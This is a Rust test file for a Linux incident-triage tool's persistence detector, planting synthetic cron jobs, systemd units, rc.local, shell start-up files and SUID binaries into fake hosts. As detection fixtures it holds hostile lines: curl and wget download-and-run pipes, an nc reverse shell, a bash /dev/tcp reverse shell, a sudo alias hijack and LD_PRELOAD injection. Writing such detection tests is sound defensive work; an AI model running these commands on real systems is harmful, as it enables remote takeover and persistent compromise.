//! The persistence family: cron, systemd, rc.local, ld.so.preload, shell start-up files
//! and SUID files, planted one per test into synthetic hosts.

mod common;

use common::*;
use rampart_core::{HostRoot, Report, Severity};
use rampart_triage::checks::persistence::Persistence;
use rampart_triage::{checks, Context, Options};

fn run(h: &FakeHost) -> Report {
    h.run(&[Box::new(Persistence)])
}

/// A host with a dpkg database: package `passwd` ships /usr/bin/passwd (SUID) and
/// `cron` ships /etc/cron.d/e2scrub_all-like files and a unit.
fn with_dpkg() -> FakeHost {
    let h = FakeHost::new();
    h.write(
        "/var/lib/dpkg/status",
        "Package: passwd\nStatus: install ok installed\nVersion: 1:4.13\nArchitecture: amd64\n\n\
         Package: cron\nStatus: install ok installed\nVersion: 3.0\nArchitecture: amd64\n",
    );
    h.write(
        "/var/lib/dpkg/info/passwd.list",
        "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n",
    );
    h.write(
        "/var/lib/dpkg/info/cron.list",
        "/etc/cron.d/packaged\n/lib/systemd/system/cron.service\n/etc/cron.daily/packaged\n/etc/init.d/cron\n",
    );
    h.write_mode("/usr/bin/passwd", "ELF", 0o4755);
    h
}

#[test]
fn clean_host_has_nothing_to_report() {
    let h = with_dpkg();
    h.write(
        "/etc/crontab",
        "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    );
    h.write(
        "/etc/cron.d/packaged",
        "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x/e2scrub_all\n",
    );
    h.write(
        "/lib/systemd/system/cron.service",
        "[Service]\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n",
    );
    h.write("/etc/profile", "if [ \"$PS1\" ]; then\n  PS1='\\h:\\w\\$ '\nfi\n");
    h.write(
        "/root/.bashrc",
        "alias ls='ls --color=auto'\n. \"$HOME/.cargo/env\"\n",
    );
    h.write("/etc/ld.so.preload", "# nothing\n\n");
    h.write_mode(
        "/etc/init.d/cron",
        "#!/bin/sh\n. /lib/lsb/init-functions\nDAEMON=/usr/sbin/cron\nrm -f /tmp/.X0-lock\nstart-stop-daemon --start --exec $DAEMON\n",
        0o755,
    );
    let r = run(&h);
    assert!(r.findings.is_empty(), "{:#?}", r.findings);
    assert!(r.errors.is_empty(), "{:#?}", r.errors);
}

#[test]
fn ld_so_preload_is_critical() {
    let h = FakeHost::new();
    h.write(
        "/etc/ld.so.preload",
        "/usr/lib/x86_64-linux-gnu/libselinux.so.3\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.ld-preload");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, "/etc/ld.so.preload:1");
}

#[test]
fn download_and_run_in_cron_d() {
    let h = FakeHost::new();
    h.write(
        "/etc/cron.d/sysupdate",
        "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.cron-suspicious");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, "/etc/cron.d/sysupdate:2");
    assert!(f.title.contains("downloads with curl"), "{}", f.title);
}

#[test]
fn benign_cron_d_file_is_listed_not_flagged() {
    let h = FakeHost::new();
    h.write(
        "/etc/cron.d/certbot",
        "0 */12 * * * root /usr/bin/certbot -q renew\n",
    );
    let r = run(&h);
    expect_no_id(&r, "persistence.cron-suspicious");
    let f = expect_id(&r, "persistence.cron-job");
    assert_eq!(f.severity, Severity::Info);
    assert_eq!(f.evidence[0].location, "/etc/cron.d/certbot:1");
}

#[test]
fn cron_d_file_no_package_installed_is_low() {
    let h = with_dpkg();
    h.write("/etc/cron.d/packaged", "0 1 * * * root /usr/bin/true\n");
    h.write("/etc/cron.d/mystery", "0 1 * * * root /usr/local/bin/job\n");
    let r = run(&h);
    let jobs = with_id(&r, "persistence.cron-job");
    assert_eq!(jobs.len(), 1, "{jobs:#?}");
    assert_eq!(jobs[0].severity, Severity::Low);
    assert!(jobs[0].title.contains("/etc/cron.d/mystery"));
}

#[test]
fn user_crontab_running_from_tmp() {
    let h = FakeHost::new();
    h.write(
        "/var/spool/cron/crontabs/www-data",
        "# DO NOT EDIT\n* * * * * /tmp/.x/kworker >/dev/null 2>&1\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.cron-suspicious");
    assert_eq!(f.severity, Severity::High);
    assert!(f.title.contains("www-data"));
    assert_eq!(f.evidence[0].location, "/var/spool/cron/crontabs/www-data:2");
}

#[test]
fn red_hat_user_crontab_is_listed() {
    let h = FakeHost::new();
    h.write("/var/spool/cron/alice", "@reboot /home/alice/bin/start\n");
    let r = run(&h);
    let f = expect_id(&r, "persistence.cron-job");
    assert!(f.title.contains("User crontab of alice"), "{}", f.title);
    assert!(f.evidence[0].detail.contains("@reboot"));
}

#[test]
fn garbage_crontab_is_an_error_naming_the_file() {
    let h = FakeHost::new();
    h.write(
        "/etc/cron.d/junk",
        b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    );
    h.write(
        "/etc/cron.d/half",
        "0 1 * * * root /usr/bin/true\nthis is not cron\n",
    );
    let r = run(&h);
    let e = r
        .errors
        .iter()
        .find(|e| e.subject == "/etc/cron.d/junk")
        .unwrap_or_else(|| panic!("{:#?}", r.errors));
    assert!(e.message.contains("binary data"));
    assert!(
        r.errors.iter().any(|e| e.subject == "/etc/cron.d/half:2"),
        "{:#?}",
        r.errors
    );
    // The good line of the half-broken file still counts.
    expect_id(&r, "persistence.cron-job");
}

#[test]
fn crontab_symlink_loop_is_an_error() {
    let h = FakeHost::new();
    h.symlink("/etc/cron.d/b", "/etc/cron.d/a");
    h.symlink("/etc/cron.d/a", "/etc/cron.d/b");
    let r = run(&h);
    let e = r
        .errors
        .iter()
        .find(|e| e.subject == "/etc/cron.d/a")
        .unwrap_or_else(|| panic!("{:#?}", r.errors));
    assert!(e.message.contains("symbolic links"), "{e:?}");
}

#[test]
fn cron_daily_script_and_binary() {
    let h = with_dpkg();
    h.write_mode(
        "/etc/cron.daily/packaged",
        "#!/bin/sh\nexec /usr/sbin/logrotate /etc/logrotate.conf\n",
        0o755,
    );
    h.write_mode(
        "/etc/cron.daily/0anacron",
        "#!/bin/sh\nwget -q -O- http://evil.example/p | bash\n",
        0o755,
    );
    h.write_mode("/etc/cron.hourly/sync", b"\x7fELF\x02\x01\x01\x00\x00\x00", 0o755);
    h.write_mode(
        "/etc/cron.weekly/backup",
        "#!/bin/sh\n/usr/local/bin/backup\n",
        0o755,
    );
    let r = run(&h);
    let s = expect_id(&r, "persistence.cron-suspicious");
    assert_eq!(s.evidence[0].location, "/etc/cron.daily/0anacron:2");
    assert_eq!(
        expect_id(&r, "persistence.cron-binary").evidence[0].location,
        "/etc/cron.hourly/sync"
    );
    let jobs = with_id(&r, "persistence.cron-job");
    assert_eq!(jobs.len(), 1, "only the unowned, unsuspicious script: {jobs:#?}");
    assert!(jobs[0].title.contains("/etc/cron.weekly/backup"));
}

#[test]
fn init_and_motd_scripts() {
    let h = with_dpkg();
    h.write_mode(
        "/etc/init.d/networking-helper",
        "#!/bin/sh\n/var/tmp/.n/helper &\n",
        0o755,
    );
    h.write_mode("/etc/update-motd.d/99-stats", "#!/bin/sh\nuptime\n", 0o755);
    let r = run(&h);
    let f = expect_id(&r, "persistence.initd-suspicious");
    assert_eq!(f.evidence[0].location, "/etc/init.d/networking-helper:2");
    assert!(f.title.starts_with("Init script"), "{}", f.title);
    let m = expect_id(&r, "persistence.motd-unowned");
    assert_eq!(m.severity, Severity::Low);
    expect_no_id(&r, "persistence.initd-unowned");
}

#[test]
fn systemd_unit_running_from_dev_shm() {
    let h = FakeHost::new();
    h.write(
        "/etc/systemd/system/dbus-helper.service",
        "[Unit]\nDescription=helper\n[Service]\nExecStart=/dev/shm/.d/helper -q\nRestart=always\n",
    );
    h.write(
        "/etc/systemd/system/nginx.service.d/override.conf",
        "[Service]\nExecStartPre=-/usr/sbin/nginx -t\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.systemd-suspicious");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(
        f.evidence[0].location,
        "/etc/systemd/system/dbus-helper.service:4"
    );
    assert_eq!(with_id(&r, "persistence.systemd-suspicious").len(), 1);
}

#[test]
fn systemd_drop_in_with_ld_preload_and_download() {
    let h = FakeHost::new();
    h.write(
        "/etc/systemd/system/ssh.service.d/10-x.conf",
        "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libsshd-helper.so\nExecStartPost=/bin/sh -c 'curl -s http://x/k | sh'\n",
    );
    let r = run(&h);
    let all = with_id(&r, "persistence.systemd-suspicious");
    assert_eq!(all.len(), 2, "{all:#?}");
    assert!(all
        .iter()
        .any(|f| f.severity == Severity::Critical && f.evidence[0].line == Some(3)));
    assert!(all
        .iter()
        .any(|f| f.title.contains("LD_PRELOAD") && f.evidence[0].line == Some(2)));
}

#[test]
fn enabled_link_to_a_unit_in_tmp() {
    let h = FakeHost::new();
    h.write("/tmp/.u/update.service", "[Service]\nExecStart=/tmp/.u/update\n");
    h.symlink(
        "/tmp/.u/update.service",
        "/etc/systemd/system/multi-user.target.wants/update.service",
    );
    let r = run(&h);
    let l = expect_id(&r, "persistence.systemd-link");
    assert_eq!(l.severity, Severity::Critical);
    assert_eq!(
        l.evidence[0].location,
        "/etc/systemd/system/multi-user.target.wants/update.service"
    );
    let s = expect_id(&r, "persistence.systemd-suspicious");
    assert_eq!(s.evidence[0].location, "/tmp/.u/update.service:2");
}

#[test]
fn unowned_units() {
    let h = with_dpkg();
    h.write(
        "/lib/systemd/system/cron.service",
        "[Service]\nExecStart=/usr/sbin/cron -f\n",
    );
    h.write(
        "/lib/systemd/system/kworkerd.service",
        "[Service]\nExecStart=/usr/bin/kworkerd\n",
    );
    h.write(
        "/etc/systemd/system/app.service",
        "[Service]\nExecStart=/srv/app/run\n",
    );
    h.write("/etc/systemd/system/app.timer", "[Timer]\nOnCalendar=daily\n");
    let r = run(&h);
    let u = with_id(&r, "persistence.systemd-unowned");
    assert_eq!(u.len(), 3, "{u:#?}");
    let vendor = u.iter().find(|f| f.title.contains("kworkerd")).unwrap();
    assert_eq!(vendor.severity, Severity::Medium);
    assert_eq!(
        vendor.evidence[0].location,
        "/lib/systemd/system/kworkerd.service:2"
    );
    assert!(u
        .iter()
        .filter(|f| f.title.contains("app."))
        .all(|f| f.severity == Severity::Low));
}

#[test]
fn user_units_are_listed() {
    let h = FakeHost::new();
    h.write(
        "/home/alice/.config/systemd/user/sync.service",
        "[Service]\nExecStart=/home/alice/bin/sync\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.systemd-user-unit");
    assert_eq!(
        f.evidence[0].location,
        "/home/alice/.config/systemd/user/sync.service:2"
    );
}

#[test]
fn rc_local() {
    let h = FakeHost::new();
    h.write_mode(
        "/etc/rc.local",
        "#!/bin/sh -e\n# rc.local\n/usr/local/bin/fan-control &\nexit 0\n",
        0o755,
    );
    let r = run(&h);
    let f = expect_id(&r, "persistence.rc-local");
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(f.evidence[0].location, "/etc/rc.local:3");
    // A reverse shell in it is critical; a trivial rc.local is nothing.
    h.write_mode(
        "/etc/rc.local",
        "#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444 &\nexit 0\n",
        0o755,
    );
    let r = run(&h);
    assert!(with_id(&r, "persistence.rc-local")
        .iter()
        .any(|f| f.severity == Severity::Critical));
    h.write_mode("/etc/rc.local", "#!/bin/sh -e\n# nothing\nexit 0\n", 0o755);
    expect_no_id(&run(&h), "persistence.rc-local");
}

#[test]
fn profile_d_alias_hijack_and_bashrc_reverse_shell() {
    let h = FakeHost::new();
    h.write("/etc/profile.d/colors.sh", "alias sudo='/usr/lib/.s/sudo'\n");
    h.write(
        "/home/alice/.bashrc",
        "# ~/.bashrc\n(bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &) 2>/dev/null\n",
    );
    h.write(
        "/etc/environment",
        "PATH=\"/usr/bin:/bin\"\nLD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.7\n",
    );
    let r = run(&h);
    let all = with_id(&r, "persistence.shell-rc");
    assert_eq!(all.len(), 2, "{all:#?}");
    let alias = all
        .iter()
        .find(|f| f.evidence[0].location == "/etc/profile.d/colors.sh:1")
        .unwrap();
    assert!(alias.title.contains("alias sudo"), "{}", alias.title);
    let rev = all
        .iter()
        .find(|f| f.evidence[0].location == "/home/alice/.bashrc:2")
        .unwrap();
    assert_eq!(rev.severity, Severity::Critical);
    // pam_env reads /etc/environment, no shell runs it: its LD_PRELOAD has an id of its own.
    let env = expect_id(&r, "persistence.environment-preload");
    assert_eq!(env.evidence[0].location, "/etc/environment:2");
}

#[test]
fn suid_in_tmp_is_critical_and_unowned_suid_is_high() {
    let h = with_dpkg();
    h.write_mode("/tmp/.ICE-unix/sh", "ELF", 0o4755);
    h.write_mode("/usr/local/bin/helper", "ELF", 0o4755);
    h.write_mode("/usr/bin/crontab-like", "ELF", 0o2755);
    let r = run(&h);
    let t = expect_id(&r, "persistence.suid-temp");
    assert_eq!(t.severity, Severity::Critical);
    assert_eq!(t.evidence[0].location, "/tmp/.ICE-unix/sh");
    let unowned = with_id(&r, "persistence.suid-unowned");
    assert_eq!(unowned.len(), 2, "{unowned:#?}");
    let helper = unowned
        .iter()
        .find(|f| f.title.contains("/usr/local/bin/helper"))
        .unwrap();
    assert!(helper.title.starts_with("SUID file"));
    let sgid = unowned.iter().find(|f| f.title.contains("crontab-like")).unwrap();
    assert!(sgid.title.starts_with("SGID"));
    // /usr/bin/passwd is dpkg's: not reported.
    assert!(!r.findings.iter().any(|f| f.title.contains("/usr/bin/passwd")));
}

#[test]
fn suid_without_dpkg_only_reports_impossible_places() {
    let h = FakeHost::new();
    h.write_mode("/home/alice/.cache/x", "ELF", 0o4755);
    h.write_mode("/usr/bin/sudo", "ELF", 0o4755);
    let r = run(&h);
    assert_eq!(
        expect_id(&r, "persistence.suid-temp").evidence[0].location,
        "/home/alice/.cache/x"
    );
    expect_no_id(&r, "persistence.suid-unowned");
    assert!(
        r.skipped
            .iter()
            .any(|s| s.reason.contains("not compared with packages")),
        "{:#?}",
        r.skipped
    );
}

#[test]
fn suid_walk_does_not_follow_links_or_loop() {
    let h = with_dpkg();
    h.mkdir("/usr/lib/deep");
    h.symlink("/usr/lib", "/usr/lib/deep/loop");
    h.symlink("/", "/opt/escape");
    h.write_mode("/srv/data/.hidden/suid", "ELF", 0o4755);
    let r = run(&h);
    let u = with_id(&r, "persistence.suid-unowned");
    assert_eq!(u.len(), 1, "found once, through no link: {u:#?}");
    assert_eq!(u[0].evidence[0].location, "/srv/data/.hidden/suid");
}

#[test]
fn deep_home_trees_need_deep() {
    let h = FakeHost::new();
    h.write_mode("/home/alice/a/b/c/d/e/x", "ELF", 0o4755);
    h.write_mode("/root/shallow", "ELF", 0o4755);
    let r = run(&h);
    let found = with_id(&r, "persistence.suid-temp");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].evidence[0].location, "/root/shallow");
    assert!(
        r.skipped.iter().any(|s| s.reason.contains("--deep")),
        "{:#?}",
        r.skipped
    );
    let ctx = Context::new(
        HostRoot::at(h.dir.path()).unwrap(),
        Options {
            deep_integrity: true,
            ..Default::default()
        },
    );
    let r = rampart_triage::run(&ctx, &[Box::new(Persistence)]);
    assert_eq!(with_id(&r, "persistence.suid-temp").len(), 2);
}

#[test]
fn everything_runs_with_all_checks_on_a_bare_root() {
    // An empty root (no passwd, nothing): every family reports what it could not read and
    // nothing crashes.
    let h = FakeHost::empty();
    let ctx = Context::new(HostRoot::at(h.dir.path()).unwrap(), Options::default());
    let r = rampart_triage::run(&ctx, &checks::all());
    assert!(
        r.errors.iter().any(|e| e.subject == "/etc/passwd"),
        "{:#?}",
        r.errors
    );
    assert!(
        !r.errors.iter().any(|e| e.message.contains("crashed")),
        "{:#?}",
        r.errors
    );
}

/// Per-family wall time on the live host (run with --ignored --nocapture).
#[test]
#[ignore]
fn live_family_timings() {
    let ctx = Context::new(HostRoot::live(), Options::default());
    let _ = ctx.accounts();
    for c in checks::all() {
        let name = c.name();
        let t = std::time::Instant::now();
        let r = rampart_triage::run(&ctx, &[c]);
        println!(
            "{name}: {:?} findings={} errors={}",
            t.elapsed(),
            r.findings.len(),
            r.errors.len()
        );
    }
}
